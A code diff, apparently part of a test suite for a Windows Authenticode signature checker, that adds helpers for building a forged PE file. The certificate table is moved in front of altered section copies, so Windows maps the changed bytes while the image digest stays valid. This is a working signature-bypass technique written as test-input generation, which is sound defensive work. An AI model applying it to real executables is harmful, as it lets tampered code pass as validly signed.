@@ -198,3 +198,31 @@ def with_message_digest_rewritten(data):
     assert at > 0, "messageDigest not found in the certificate table"
     changed[at:at + 32] = hashlib.sha256(bytes(changed[start:end])).digest()
     return bytes(changed)
+
+
+def sections(data):
+    """(PointerToRawData, SizeOfRawData) of every section of a PE file."""
+    pe = struct.unpack_from("<I", data, 0x3C)[0]
+    count = struct.unpack_from("<H", data, pe + 6)[0]
+    opt_size = struct.unpack_from("<H", data, pe + 20)[0]
+    table = pe + 24 + opt_size
+    return [struct.unpack_from("<II", data, table + i * 40 + 16)[::-1] for i in range(count)]
+
+
+def with_table_moved(data):
+    """The attack on a signature check that does not hold the certificate table to its place: the
+    unchanged entry at the start of the section data, followed by rewritten copies of the sections
+    (the section headers still point there, so Windows maps them), and the original section bytes
+    moved behind the table, where the image digest still finds them. The digested bytes, and so
+    the image digest, stay as they were."""
+    cks, sec, off, size = pe_fields(data)
+    first = min(raw for raw, length in sections(data) if length)
+    end = max(raw + length for raw, length in sections(data))
+    assert first % 8 == 0 and end <= off, "sections behind the headers, the table behind them"
+    entry = data[off:off + size]
+    rewritten = bytearray(data[first + len(entry):end])
+    rewritten[len(rewritten) // 2] ^= 0x01
+    table = entry + bytes(rewritten)
+    moved = bytearray(data[:first] + table + data[first:off])
+    struct.pack_into("<II", moved, sec, first, len(table))
+    return bytes(moved)
